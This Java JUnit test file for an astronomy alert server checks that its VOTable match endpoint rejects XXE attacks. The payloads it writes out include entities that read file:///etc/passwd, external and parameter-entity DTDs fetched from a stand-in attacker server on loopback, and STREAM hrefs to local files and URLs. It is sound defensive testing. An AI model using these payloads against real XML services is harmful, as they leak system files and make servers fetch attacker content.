package org.ztfclass.server.api;

import org.ztfclass.server.TestStores;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.ztfclass.server.Samples;
import org.ztfclass.server.ingest.IngestProgress;
import org.ztfclass.server.ingest.IngestService;
import org.ztfclass.server.store.Database;
import org.ztfclass.server.store.StoreWriter;

/**
 * Issue 13, finding 1 (critical), replayed against a running server: an anonymous
 * {@code POST /api/objects/match} with a DOCTYPE whose entity names {@code /etc/passwd}, an
 * external DTD, a parameter entity, or a {@code STREAM href} to a local file or URL is answered
 * 400 with a plain message, carries no file content and makes the server fetch nothing (a loopback
 * HTTP server stands in for the attacker's host and counts requests).
 */
class XxeAttackTest {

    @TempDir
    static Path tmp;

    private static ApiServer server;
    private static HttpServer evil;
    private static final AtomicInteger HITS = new AtomicInteger();
    private static final HttpClient HTTP = HttpClient.newHttpClient();

    @BeforeAll
    static void start() throws Exception {
        Database db = TestStores.open(tmp.resolve("xxe.db"));
        new IngestService(new StoreWriter(db)).ingest(List.of(Samples.path("alerts")), IngestProgress.SILENT);
        server = new ApiServer(db).start("127.0.0.1", 0);
        evil = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        evil.createContext("/", ex -> {
            HITS.incrementAndGet();
            byte[] body = "<!ENTITY % file SYSTEM \"file:///etc/passwd\"><!ENTITY x \"pwned\">".getBytes(StandardCharsets.UTF_8);
            ex.sendResponseHeaders(200, body.length);
            ex.getResponseBody().write(body);
            ex.close();
        });
        evil.start();
    }

    @AfterAll
    static void stop() {
        server.stop();
        evil.stop(0);
    }

    @BeforeEach
    void resetHits() {
        HITS.set(0);
    }

    private static String evilUrl(String path) {
        return "http://127.0.0.1:" + evil.getAddress().getPort() + path;
    }

    private static String table(String doctype, String cell) {
        return "<?xml version=\"1.0\"?>\n" + doctype + "\n<VOTABLE version=\"1.4\" xmlns=\"http://www.ivoa.net/xml/VOTable/v1.3\">\n"
                + "<RESOURCE><TABLE>\n<FIELD name=\"objectId\" datatype=\"char\" arraysize=\"*\" ucd=\"meta.id;meta.main\"/>\n"
                + "<DATA><TABLEDATA><TR><TD>" + cell + "</TD></TR></TABLEDATA></DATA>\n</TABLE></RESOURCE></VOTABLE>\n";
    }

    private static String streamHref(String serialisation, String href) {
        return "<?xml version=\"1.0\"?>\n<VOTABLE version=\"1.4\" xmlns=\"http://www.ivoa.net/xml/VOTable/v1.3\">\n"
                + "<RESOURCE><TABLE>\n<FIELD name=\"objectId\" datatype=\"char\" arraysize=\"*\" ucd=\"meta.id;meta.main\"/>\n"
                + "<DATA><" + serialisation + "><STREAM href=\"" + href + "\" encoding=\"base64\"/></" + serialisation
                + "></DATA>\n</TABLE></RESOURCE></VOTABLE>\n";
    }

    /** @return the answer to an anonymous match of {@code body}, asserted refused with a plain message and no file content */
    private static String refused(String body, String query, String expected) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + "/api/objects/match"
                + (query == null ? "" : "?" + query))).header("Content-Type", "application/x-votable+xml")
                .POST(HttpRequest.BodyPublishers.ofString(body));
        HttpResponse<String> r = HTTP.send(b.build(), HttpResponse.BodyHandlers.ofString());
        assertEquals(400, r.statusCode(), r.body());
        assertFalse(r.body().contains("root:"), r.body());
        assertFalse(r.body().contains("pwned"), r.body());
        assertFalse(r.body().contains("Exception") || r.body().contains("\tat "), "no stack in " + r.body());
        assertTrue(r.body().contains(expected), r.body());
        return r.body();
    }

    @Test
    void aFileEntityComesBackRefusedWithoutTheFile() throws Exception {
        String json = refused(table("<!DOCTYPE VOTABLE [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "&x;"), null, "DOCTYPE");
        assertTrue(json.contains("\"status\":400"), json);
        String votable = refused(table("<!DOCTYPE VOTABLE [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "&x;"),
                "format=votable", "DOCTYPE");
        assertTrue(votable.contains("QUERY_STATUS") && votable.contains("ERROR"), votable);
    }

    @Test
    void anExternalDtdIsNotFetched() throws Exception {
        refused(table("<!DOCTYPE VOTABLE SYSTEM \"" + evilUrl("/evil.dtd") + "\">", "ZTF20aaelulu"), null, "DOCTYPE");
        assertEquals(0, HITS.get(), "the server fetched the attacker's DTD");
    }

    @Test
    void aParameterEntityIsNotFetched() throws Exception {
        refused(table("<!DOCTYPE VOTABLE [<!ENTITY % p SYSTEM \"" + evilUrl("/evil.dtd") + "\"> %p;]>", "&x;"), null, "DOCTYPE");
        refused(table("<!DOCTYPE VOTABLE [<!ENTITY % file SYSTEM \"file:///etc/passwd\"><!ENTITY % p SYSTEM \""
                + evilUrl("/evil.dtd") + "\"> %p;]>", "&x;"), null, "DOCTYPE");
        assertEquals(0, HITS.get(), "the server fetched the attacker's parameter entity");
    }

    @Test
    void aStreamHrefOpensNoFileAndNoUrl() throws Exception {
        for (String ser : new String[] {"BINARY", "BINARY2", "FITS"}) {
            refused(streamHref(ser, "file:///etc/passwd"), null, "STREAM");
            refused(streamHref(ser, evilUrl("/data.bin")), null, "STREAM");
        }
        assertEquals(0, HITS.get(), "the server followed a STREAM href");
    }
}
